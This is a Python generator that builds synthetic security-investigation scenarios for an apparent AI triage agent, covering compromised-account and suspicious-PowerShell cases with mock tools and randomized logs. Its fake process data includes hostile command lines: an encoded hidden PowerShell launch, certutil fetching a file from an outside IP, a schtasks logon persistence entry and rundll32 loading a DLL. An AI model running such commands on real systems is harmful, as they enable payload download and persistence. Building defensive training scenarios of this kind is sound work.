"""Scenario family: a security investigation."""

from __future__ import annotations

import random
from datetime import timedelta

from console.authoring.gen_fit import pick
from console.authoring.tool.pools import CITIES, ORGS, _domain, _email, _hex, _iso, _person, _start
from console.authoring.tool.schema import COMMON_RULES, Scenario, Step, arr, i, s, tool

# ------------------------------------------------------------------------------------------ family: security

def fam_security(rng: random.Random, variant: int) -> Scenario:
    org = pick(rng, ORGS)
    dom = _domain(org)
    user = _person(rng)
    upn = _email(user, dom)
    host = f"{pick(rng, ['lt', 'wk', 'srv'])}-{pick(rng, ['fin', 'eng', 'ops', 'hr'])}-{rng.randrange(100, 999)}"
    t0 = _start(rng)
    if variant == 0:
        task = (f"Identity protection raised a high-risk alert for {upn}: sign-ins from two countries within 40 "
                f"minutes and an MFA method added afterwards. Triage it: decide whether the account is compromised, "
                f"contain it if so, and document the case.")
    else:
        task = (f"EDR flagged a suspicious PowerShell chain on {host} ({user}'s laptop) at {_iso(t0)}. Determine what "
                f"ran, whether anything spread or exfiltrated data, and contain the host if needed. Open a case with "
                f"your findings.")
    tools = [
        tool("siem_search", "Search security events (KQL).",
             {"query": s("KQL query."), "start": s("ISO start."), "end": s("ISO end."), "limit": i("Max rows.")},
             ["query", "start", "end"]),
        tool("get_user", "Directory profile, groups and registered MFA methods.", {"upn": s("User principal.")},
             ["upn"]),
        tool("list_sign_ins", "Sign-in log entries of a user.", {"upn": s("User principal."), "days": i("Lookback.")},
             ["upn"]),
        tool("get_host", "Endpoint inventory and health.", {"hostname": s("Host name.")}, ["hostname"]),
        tool("list_processes", "Process creation events on a host.",
             {"host_id": s("Host id."), "since": s("ISO time."), "parent": s("Filter by parent image.")},
             ["host_id", "since"]),
        tool("get_file_reputation", "Threat-intel verdict for a file hash.", {"sha256": s("SHA-256.")}, ["sha256"]),
        tool("isolate_host", "Network-isolate an endpoint.", {"host_id": s("Host id."), "reason": s("Reason.")},
             ["host_id", "reason"]),
        tool("revoke_sessions", "Revoke refresh tokens and sign the user out everywhere.", {"upn": s("User.")},
             ["upn"]),
        tool("open_case", "Open an incident case.",
             {"title": s("Title."), "severity": s("Severity.", enum=["low", "medium", "high", "critical"]),
              "summary": s("Findings."), "entities": arr("Users, hosts, IPs.", s("Entity."))},
             ["title", "severity", "summary"]),
    ]
    steps: list[Step] = []
    groups = rng.sample(["Finance-Approvers", "VPN-Users", "All-Staff", "Payroll-Readers", "Eng-Admins",
                         "M365-E5", "Travel", "Board-Portal"], 5)
    mfa = [{"method": m, "added": _iso(t0 - timedelta(days=rng.randrange(0, 400)))}
           for m in ["authenticator_app", "sms", "fido2", "authenticator_app"][:rng.randrange(2, 5)]]
    dept = pick(rng, ["Finance", "Engineering", "Operations", "HR"])
    steps.append(Step(f"Pulling {user}'s directory profile and MFA methods.", "get_user", {"upn": upn},
                      len(groups) + len(mfa), lambda k, g=groups, m=mfa: {
                          "upn": upn, "display_name": user, "department": dept,
                          "groups": g[:min(k, len(g))], "mfa_methods": m[:max(0, k - len(g))]}))
    for chunk in range(5):
        rows = []
        for _ in range(rng.randrange(10, 18)):
            c = pick(rng, CITIES)
            rows.append({"time": _iso(t0 - timedelta(minutes=rng.randrange(0, 60 * 24 * 3))),
                         "ip": (f"{rng.randrange(11, 223)}.{rng.randrange(256)}.{rng.randrange(256)}."
                                f"{rng.randrange(1, 255)}"),
                         "city": c[0], "app": pick(rng, ["Outlook", "Teams", "SharePoint", "Azure Portal", "VPN",
                                                        "Salesforce"]),
                         "client": pick(rng, ["Chrome 127 / Windows", "Outlook mobile / iOS", "python-requests/2.32",
                                              "Edge 126 / macOS"]),
                         "result": pick(rng, ["success", "success", "failure: invalid password", "MFA required",
                                              "success (MFA satisfied)"]),
                         "risk": pick(rng, ["none", "low", "medium", "high"])})
        rows.sort(key=lambda r: r["time"], reverse=True)
        steps.append(Step("Reviewing sign-ins for impossible travel and odd clients." if chunk == 0 else
                          "Going further back in the sign-in log.", "list_sign_ins",
                          {"upn": upn, "days": 3 + chunk * 3}, len(rows), lambda k, r=rows: {"sign_ins": r[:k]}))
        procs = []
        for _ in range(rng.randrange(10, 18)):
            procs.append({"time": _iso(t0 + timedelta(seconds=rng.randrange(-900, 900))),
                          "image": pick(rng, ["powershell.exe", "cmd.exe", "rundll32.exe", "wscript.exe",
                                              "msedge.exe", "certutil.exe", "schtasks.exe", "curl.exe"]),
                          "parent": pick(rng, ["winword.exe", "explorer.exe", "powershell.exe", "outlook.exe"]),
                          "cmdline": pick(rng, ["-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA...",
                                                "/c whoami /groups",
                                                "certutil -urlcache -f http://203.0.113.7/a.txt a.txt",
                                                "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon",
                                                "https://login.example-sso.net/",
                                                "rundll32 C:\\ProgramData\\x.dll,Start"]),
                          "sha256": _hex(rng, 64), "user": upn})
        steps.append(Step(f"Process activity on {host} around the alert.", "list_processes",
                          {"host_id": f"hst_{_hex(rng, 8)}", "since": _iso(t0 - timedelta(minutes=15 + 10 * chunk))},
                          len(procs), lambda k, p=procs: {"events": p[:k]}))
        ev = [{"time": _iso(t0 + timedelta(seconds=rng.randrange(-3600, 3600))),
               "event": pick(rng, ["MailItemsAccessed", "New-InboxRule", "FileDownloaded", "Add-MailboxPermission",
                                   "UserLoggedIn", "OAuthConsentGranted", "DnsQuery", "ConnectionAllowed"]),
               "detail": pick(rng, ["rule forwards to external address", "1,284 items", "consent: MailSync Pro",
                                    "dst=203.0.113.7:443", "Q=cdn-update-check.net", "src=10.20.4.17"])}
              for _ in range(rng.randrange(10, 16))]
        steps.append(Step("Cross-checking with mailbox and network events in the SIEM.", "siem_search",
                          {"query": f"union OfficeActivity, DeviceNetworkEvents | where Account == '{upn}'",
                           "start": _iso(t0 - timedelta(hours=6)), "end": _iso(t0 + timedelta(hours=2)),
                           "limit": 200}, len(ev), lambda k, e=ev: {"rows": e[:k]}))
    if variant == 1:
        steps = [steps[0]] + [st for st in steps[1:] if st.name != "list_sign_ins"] + \
                [st for st in steps[1:] if st.name == "list_sign_ins"]
    final = pick(rng, [
        "What is your assessment so far, and what will you do next? Keep it brief: verdict, confidence, numbered "
        "next steps, then exactly one tool call.",
        "Decide the next action. If containment is warranted say why in one sentence before calling the tool.",
    ])
    return Scenario("security-triage", org, pick(rng, ["a SOC analyst assistant", "the security triage agent"]),
                    tools if variant == 0 else [tools[k] for k in (3, 4, 5, 0, 1, 2, 6, 7, 8)], task, steps, final,
                    rules=pick(rng, COMMON_RULES, 6), pretty=variant == 1)
